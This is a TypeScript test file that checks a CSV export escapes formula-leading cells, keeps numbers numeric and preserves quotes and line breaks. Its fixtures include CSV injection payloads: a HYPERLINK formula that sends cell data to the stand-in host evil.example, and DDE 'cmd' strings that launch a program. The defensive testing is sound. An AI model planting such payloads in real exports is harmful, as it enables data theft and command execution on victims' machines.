// The CSV downloads (src/lib/csv.ts), read back with a real CSV parser (d3-dsv): text that a spreadsheet
// would run as a formula arrives as text behind a single quote; numbers, negative ones too, stay numbers;
// quotes, commas and line breaks survive.
import { describe, expect, it } from 'vitest';
import { csvParse, csvParseRows } from 'd3-dsv';
import { resolve } from 'node:path';
import { csvField, toCsv } from '../../src/lib/csv';
import { loadTimelineData } from '../../src/build/data/load';
import { eventsToCsv } from '../../src/lib/timeline/exports';
import { en } from '../../src/lib/ui/strings';

const PLANTED = [
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '=cmd|"/c calc"!A1, with a comma\nand a line',
];

describe('toCsv', () => {
  it('neutralises every cell a spreadsheet would run, and the parser reads back the text behind a quote', () => {
    const csv = toCsv(
      ['text'],
      PLANTED.map((cell) => [cell]),
    );
    const rows = csvParseRows(csv.replace(/\r\n$/, ''));
    expect(rows.slice(1).map(([cell]) => cell)).toEqual(PLANTED.map((cell) => `'${cell}`));
    // Each planted field is quoted, so no line of the file starts with a formula character.
    for (const cell of PLANTED) expect(csvField(cell)).toBe(`"'${cell.replace(/"/g, '""')}"`);
  });

  it('keeps numbers numbers, negative ones too, and leaves ordinary text as it was', () => {
    const csv = toCsv(
      ['n', 'text', 'flag', 'empty'],
      [
        [-12.5, 'a, "b"', true, undefined],
        [0, '2019-06-07', false, null],
        [60745, 'plain − text with a minus later', -1, ''],
      ],
    );
    expect(csv).toBe(
      'n,text,flag,empty\r\n-12.5,"a, ""b""",true,\r\n0,2019-06-07,false,\r\n60745,plain − text with a minus later,-1,\r\n',
    );
    const rows = csvParse(csv);
    expect(rows.map((r) => Number(r.n))).toEqual([-12.5, 0, 60745]);
    expect(rows.map((r) => r.text)).toEqual(['a, "b"', '2019-06-07', 'plain − text with a minus later']);
  });
});

describe('eventsToCsv', () => {
  it('neutralises a title, summary and publisher that start with a formula', () => {
    const data = loadTimelineData(resolve('tests/fixtures/content/data'));
    const [first, ...rest] = data.events;
    const planted = {
      ...first,
      title: '=1+1',
      summary: '@SUM(A1:A9)',
      sources: [{ ...first.sources[0], publisher: '-Publisher' }],
    };
    const rows = csvParse(eventsToCsv({ ...data, events: [planted, ...rest] }, en));
    expect(rows[0].title).toBe("'=1+1");
    expect(rows[0].summary).toBe("'@SUM(A1:A9)");
    expect(rows[0].sources).toMatch(/^'-Publisher \[/);
    expect(rows[0].importance).toBe(String(first.importance));
  });
});
